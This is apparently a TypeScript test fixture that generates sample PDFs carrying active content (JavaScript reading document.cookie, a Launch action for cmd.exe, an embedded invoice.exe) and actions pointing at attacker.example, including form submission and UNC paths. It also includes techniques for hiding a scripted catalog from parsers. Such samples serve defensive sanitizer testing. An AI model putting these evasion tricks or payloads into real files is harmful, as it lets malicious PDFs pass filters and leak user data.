import {
  documentParts,
  handWrittenPdf,
  object,
  objectStream,
  type PdfPart,
  streamObject,
  text,
  writePdf,
} from './pdf-writer.js';

/** A PDF that makes a reader act or carries a file besides its pages. */
export interface ActivePdf {
  name: string;
  bytes: Buffer;
  /**
   * pdf.js (Firefox's reader) reports it through its API: a script, an open action, an attachment, a link or an
   * annotation that acts. The others it ignores or cannot open, which other readers may not.
   */
  pdfJsShows: boolean;
}

const SCRIPT = '(app.alert\\(document.cookie\\))';
const ANNOTATION = '/Type /Annot /Rect [72 72 272 172] /P 3 0 R';

/** A one-page document whose page has the annotation `body` (object 6), with `more` objects. */
const withAnnotation = (body: string, ...more: PdfPart[]) =>
  handWrittenPdf({ page: '/Annots [6 0 R]' }, object(6, `<< ${ANNOTATION} ${body} >>`), ...more);

/**
 * Names spelled with `#xx` escapes, which the PDF specification allows in either case and readers decode: each is
 * placed where that name alone makes it active. Lower-case escapes passed pdf-lib's decoding.
 */
export const spelledActivePdfs = (): ActivePdf[] => [
  {
    name: 'a document script spelled /#4aavaScript and /#4aS (lower-case escapes)',
    pdfJsShows: true,
    bytes: handWrittenPdf(
      { catalog: '/Names << /#4aavaScript << /Names [(init) 6 0 R] >> >>' },
      object(6, `<< /S /#4aavaScript /#4aS ${SCRIPT} >>`),
    ),
  },
  {
    name: 'a document script spelled /#4a#61#76#61#53#63#72#69#70#74 (every letter escaped)',
    pdfJsShows: true,
    bytes: handWrittenPdf(
      { catalog: '/Names << /#4a#61#76#61#53#63#72#69#70#74 << /Names [(init) 6 0 R] >> >>' },
      object(6, `<< /S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 ${SCRIPT} >>`),
    ),
  },
  {
    name: 'a document script spelled /#4A#61vaScript (upper and lower case mixed)',
    pdfJsShows: true,
    bytes: handWrittenPdf(
      { catalog: '/Names << /#4A#61vaScript << /Names [(init) 6 0 R] >> >>' },
      object(6, `<< /S /#4A#61vaScript /#4A#53 ${SCRIPT} >>`),
    ),
  },
  {
    name: 'a link that starts a program, /S /#4caunch',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /Link /A << /#53 /#4caunch /F (cmd.exe) /Win << /F (cmd.exe) >> >>'),
  },
  {
    name: 'an attached program, /E#6dbeddedFiles and /E#6dbeddedFile',
    pdfJsShows: true,
    bytes: handWrittenPdf(
      { catalog: '/Names << /E#6dbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>' },
      object(6, '<< /Type /Filespec /F (invoice.exe) /#45#46 << /F 7 0 R >> >>'),
      streamObject(7, '/Type /E#6dbeddedFile', 'MZ'),
    ),
  },
  {
    name: 'a document script with lower-case escapes inside a compressed object stream',
    pdfJsShows: true,
    bytes: writePdf(
      [
        ...documentParts({ catalog: '/Names 6 0 R' }),
        objectStream(8, [
          [6, '<< /#4aavaScript << /Names [(init) 7 0 R] >> >>'],
          [7, `<< /S /#4aavaScript /#4aS ${SCRIPT} >>`],
        ]),
      ],
      { root: 1 },
    ),
  },
];

const UNC_PATH = '(\\\\\\\\attacker.example\\\\share\\\\report.pdf)';

/** Each kind of action, trigger, attachment, media and form that is refused, spelled plainly. */
export const featureActivePdfs = (): ActivePdf[] => [
  {
    name: 'an open action to a web page (/URI)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/collect) >>' }),
  },
  {
    name: 'an open action to a remote file on a UNC path (/GoToR)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ catalog: `/OpenAction << /S /GoToR /F ${UNC_PATH} /D [0 /Fit] >>` }),
  },
  {
    name: 'an open action to an embedded document (/GoToE)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (inner.pdf) >> >>' }),
  },
  {
    name: 'an open action that sends a form (/SubmitForm)',
    pdfJsShows: false,
    bytes: handWrittenPdf({
      catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/form) >> >>',
    }),
  },
  {
    name: 'an open action that imports form data (/ImportData)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ catalog: `/OpenAction << /S /ImportData /F ${UNC_PATH} >>` }),
  },
  {
    name: 'an open action that prints (/Named)',
    pdfJsShows: true,
    bytes: handWrittenPdf({ catalog: '/OpenAction << /S /Named /N /Print >>' }),
  },
  {
    name: 'an open action that only goes to a page (/GoTo)',
    pdfJsShows: true,
    bytes: handWrittenPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }),
  },
  {
    name: 'an open destination (/OpenAction with a page)',
    pdfJsShows: true,
    bytes: handWrittenPdf({ catalog: '/OpenAction [3 0 R /Fit]' }),
  },
  {
    name: 'an action dictionary of an unknown type (/Type /Action)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ catalog: '/Extra << /Type /Action /S /Custom >>' }),
  },
  {
    name: "a page's additional actions (/AA)",
    pdfJsShows: true,
    bytes: handWrittenPdf({ page: `/AA << /O << /S /JavaScript /JS ${SCRIPT} >> >>` }),
  },
  {
    name: 'a page action that resets a form (/AA, /ResetForm)',
    pdfJsShows: false,
    bytes: handWrittenPdf({ page: '/AA << /C << /S /ResetForm >> >>' }),
  },
  {
    name: "a form field's additional actions (/AA on a widget)",
    pdfJsShows: false,
    bytes: handWrittenPdf(
      { catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]' },
      object(6, `<< ${ANNOTATION} /Subtype /Widget /FT /Tx /T (name) /AA << /K << /S /Hide /T (name) >> >> >>`),
    ),
  },
  {
    name: 'a link to a web page (/URI)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /Link /A << /S /URI /URI (https://attacker.example/) >>'),
  },
  {
    name: 'a link to a remote file on a UNC path (/GoToR)',
    pdfJsShows: true,
    bytes: withAnnotation(`/Subtype /Link /A << /S /GoToR /F ${UNC_PATH} /D [0 /Fit] >>`),
  },
  {
    name: 'a bookmark to a web page (/URI in the outline)',
    pdfJsShows: true,
    bytes: handWrittenPdf(
      { catalog: '/Outlines 6 0 R' },
      object(6, '<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>'),
      object(7, '<< /Title (Verify) /Parent 6 0 R /A << /S /URI /URI (https://attacker.example/) >> >>'),
    ),
  },
  {
    name: 'a file attachment annotation (/FileAttachment)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (notes.txt) >>'),
  },
  {
    name: 'an associated file (/AF with /EF)',
    pdfJsShows: false,
    bytes: handWrittenPdf(
      { catalog: '/AF [6 0 R]' },
      object(6, '<< /Type /Filespec /F (data.xml) /UF (data.xml) /AFRelationship /Data /EF << /F 7 0 R >> >>'),
      streamObject(7, '/Type /EmbeddedFile /Subtype /text#2fxml', '<data/>'),
    ),
  },
  {
    name: 'rich media (/RichMedia)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /RichMedia /RichMediaContent << >>'),
  },
  {
    name: 'a screen annotation playing a rendition (/Screen, /Rendition)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  },
  {
    name: 'a 3D annotation (/3D)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /3D /3DD << /Type /3DRef >>'),
  },
  {
    name: 'a sound annotation (/Sound)',
    pdfJsShows: true,
    bytes: withAnnotation('/Subtype /Sound /Sound << >>'),
  },
  {
    name: 'an XFA form (/XFA)',
    pdfJsShows: false,
    bytes: handWrittenPdf(
      { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' },
      streamObject(6, '', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'),
    ),
  },
];

const SCRIPTED_CATALOG = `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${SCRIPT} >> >>`;

/**
 * A script in places a reader finds and a front-to-back parser does not, or did not: the catalog a reader opens is the
 * scripted one, while the objects a parser reading the file from start to end keeps are harmless.
 */
export const hiddenActivePdfs = (): ActivePdf[] => {
  const [harmlessCatalog, ...rest] = documentParts() as [PdfPart, ...PdfPart[]];
  /** `before`, the scripted catalog, `after`: the cross-reference section sends readers to the catalog for object 1. */
  const catalogWithin = (before: string, after: string, defines: PdfPart['defines'] = []): PdfPart => ({
    bytes: `${before}1 0 obj ${SCRIPTED_CATALOG} endobj${after}`,
    defines: [...defines, { number: 1, offset: before.length }],
  });
  const streamData = (number: number, data: string) => `${number} 0 obj\n<< /Length ${data.length} >>\nstream\n`;
  return [
    {
      name: 'an open action to a web page inside a compressed object stream',
      pdfJsShows: false,
      bytes: writePdf(
        [
          ...rest,
          objectStream(8, [
            [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://attacker.example/) >> >>'],
          ]),
        ],
        { root: 1 },
      ),
    },
    {
      name: 'an object stream typed /#4fbjStm (a lower-case escape) holding the catalog readers open',
      pdfJsShows: true,
      bytes: writePdf(
        [harmlessCatalog, ...rest, objectStream(8, [[1, SCRIPTED_CATALOG]], { type: '/Type /#4fbjStm' })],
        {
          root: 1,
        },
      ),
    },
    {
      name: 'an object stream that does not say it is one (no /Type) holding the catalog readers open',
      pdfJsShows: true,
      bytes: writePdf([harmlessCatalog, ...rest, objectStream(8, [[1, SCRIPTED_CATALOG]], { type: '' })], { root: 1 }),
    },
    {
      name: 'an earlier copy of the catalog, where the cross-reference table points',
      pdfJsShows: true,
      bytes: writePdf([object(1, SCRIPTED_CATALOG), ...rest, text(harmlessCatalog.bytes)], { root: 1 }),
    },
    {
      name: 'a catalog inside a comment, where the cross-reference table points',
      pdfJsShows: true,
      bytes: writePdf([harmlessCatalog, ...rest, catalogWithin('% ', '\n')], { root: 1 }),
    },
    {
      name: 'a catalog inside a string, where the cross-reference table points',
      pdfJsShows: true,
      bytes: writePdf(
        [
          harmlessCatalog,
          ...rest,
          catalogWithin('6 0 obj\n<< /Note (', ' endobj) >>\nendobj\n', [{ number: 6, offset: 0 }]),
        ],
        { root: 1 },
      ),
    },
    {
      name: "a catalog inside a stream's data, where the cross-reference table points",
      pdfJsShows: true,
      bytes: (() => {
        const data = `1 0 obj ${SCRIPTED_CATALOG} endobj`;
        const part = catalogWithin(streamData(6, data), '\nendstream\nendobj\n', [{ number: 6, offset: 0 }]);
        return writePdf([harmlessCatalog, ...rest, part], { root: 1 });
      })(),
    },
    {
      name: "a cross-reference table and trailer inside a stream's data, where startxref points",
      pdfJsShows: true,
      bytes: trailerInStream(),
    },
    {
      name: 'a scripted catalog written into the trailer (/Root as a dictionary)',
      pdfJsShows: true,
      bytes: writePdf(rest, { root: 1, rootEntry: SCRIPTED_CATALOG }),
    },
  ];
};

/**
 * A harmless document, then an update whose only object is a stream holding a cross-reference table and a trailer
 * whose catalog is the scripted one; the file's last `startxref` points into that stream. A parser reading from
 * start to end keeps the first trailer's catalog; a reader follows startxref.
 */
function trailerInStream(): Buffer {
  const base = handWrittenPdf();
  const offsets = [...base.toString('latin1').matchAll(/^(\d+) 0 obj/gm)].map((match) => match.index);
  const streamStart = base.length;
  const entries = ['0000000000 65535 f ', ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `)];
  const table = `xref\n0 ${entries.length}\n${entries.join('\n')}\ntrailer\n<< /Size ${entries.length} /Root ${SCRIPTED_CATALOG} >>\n`;
  const header = `6 0 obj\n<< /Length ${table.length} >>\nstream\n`;
  const update = `${header}${table}\nendstream\nendobj\nstartxref\n${streamStart + header.length}\n%%EOF\n`;
  return Buffer.concat([base, Buffer.from(update, 'latin1')]);
}

/** Every PDF above. */
export const activePdfs = (): ActivePdf[] => [...spelledActivePdfs(), ...featureActivePdfs(), ...hiddenActivePdfs()];
